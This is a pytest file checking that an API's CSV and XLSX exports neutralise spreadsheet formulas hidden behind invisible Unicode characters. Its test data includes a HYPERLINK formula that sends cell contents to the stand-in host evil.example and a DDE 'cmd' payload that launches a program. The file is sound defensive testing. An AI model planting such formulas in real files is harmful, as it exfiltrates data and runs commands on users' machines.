"""A cell a spreadsheet could read as a formula gets a `'`, even behind invisible characters."""

import csv
import io
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import httpx
import openpyxl
import pytest
from fastapi import FastAPI
from sqlalchemy.ext.asyncio import AsyncSession

from api.routes.exports import get_snapshot
from suivi.exporters.table import COLUMNS, neutralise
from tests import factories

# What a spreadsheet trims or does not show before a formula's sign.
INVISIBLE = [
    " ",
    "   ",
    "\u00a0",  # no-break space
    "\u2003",  # em space
    "\u200b",  # zero-width space
    "\ufeff",  # byte-order mark
    "\u2060",  # word joiner
    "\u00ad",  # soft hyphen
    "\u202e",  # right-to-left override
    "\t",
    "\n",
    "\r\n",
    "\x0b",
    "\u2028",  # line separator
    " \u200b\ufeff\u00a0",
]
SIGNS = ["=", "+", "-", "@", "\uff1d"]
FORMULA = 'HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("prefix", ["", *INVISIBLE])
@pytest.mark.parametrize("sign", SIGNS)
def test_a_formula_behind_invisible_characters_is_neutralised(prefix: str, sign: str) -> None:
    value = prefix + sign + FORMULA

    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Protect defenders", " Protect defenders", "\u200bProtect", "a=1", "", " ", "\ufeff", "2+2"],
)
def test_text_that_is_no_formula_is_kept(value: str) -> None:
    assert neutralise(value) == value


@pytest.fixture
def _exports_read_the_test_session(app: FastAPI, session: AsyncSession) -> None:
    @asynccontextmanager
    async def shared() -> AsyncIterator[AsyncSession]:
        yield session

    app.dependency_overrides[get_snapshot] = lambda: shared


# XML, so XLSX, holds no vertical tab, and reads CR LF back as LF.
HIDDEN_FORMULAS = [prefix + "=" + FORMULA for prefix in INVISIBLE if prefix not in {"\x0b", "\r\n"}]


@pytest.mark.usefixtures("_exports_read_the_test_session")
async def test_csv_and_xlsx_exports_neutralise_formulas_behind_invisible_characters(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    doc = await factories.document(session, "\u200b=cmd|' /C calc'!A0", body_code="CCPR")
    for number, formula in enumerate(HIDDEN_FORMULAS, start=1):
        await factories.recommendation(session, doc, str(number), texts={"en": formula})

    csv_response = await client.get("/v1/exports/recommendations.csv")
    xlsx_response = await client.get("/v1/exports/recommendations.xlsx")

    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_response.content)).active
    assert sheet is not None
    text, symbol = COLUMNS.index("text"), COLUMNS.index("document_symbol")
    sheet_rows = list(sheet.iter_rows(min_row=2, values_only=True))
    for exported in (rows[1:], sheet_rows):
        assert sorted(str(row[text]) for row in exported) == sorted(
            "'" + formula for formula in HIDDEN_FORMULAS
        )
        assert {row[symbol] for row in exported} == {"'\u200b=cmd|' /C calc'!A0"}
